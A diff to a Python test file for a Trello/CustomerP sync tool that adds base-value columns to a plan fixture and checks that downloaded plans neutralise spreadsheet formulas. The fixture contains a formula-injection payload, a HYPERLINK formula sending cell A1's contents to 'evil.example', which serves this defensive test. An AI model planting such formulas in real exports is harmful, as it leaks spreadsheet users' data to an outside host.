@@ -51,7 +51,7 @@ def plan_file(tmp_path):
         "side": "trello", "operation": "update", "link": 1, "customerp_id": [f"{n:04}" for n in range(120)],
         "trello_id": "t", "key": [f"c{n:04}" for n in range(120)], "property": "name", "before": "old",
         "after": [f"new {n}" for n in range(119)] + ['=HYPERLINK("http://evil.example?"&A1)'],
-        "cause": "edited_in_customerp", "detail": SCRIPT,
+        "cause": "edited_in_customerp", "detail": SCRIPT, "base_trello": None, "base_customerp": "",
     }  # fmt: skip
     path = tmp_path / "run" / "plan.parquet"
     path.parent.mkdir()
@@ -232,6 +232,7 @@ def test_a_plan_is_paged_and_downloaded_without_formulas(anna):
     assert rows[0][:3] == ["change", "side", "operation"]
     assert rows[-1][rows[0].index("after")] == '\'=HYPERLINK("http://evil.example?"&A1)'
     assert rows[1][rows[0].index("detail")] == SCRIPT
+    assert [rows[1][rows[0].index(name)] for name in ("base_trello", "base_customerp")] == ["?", ""]
     assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
 
 
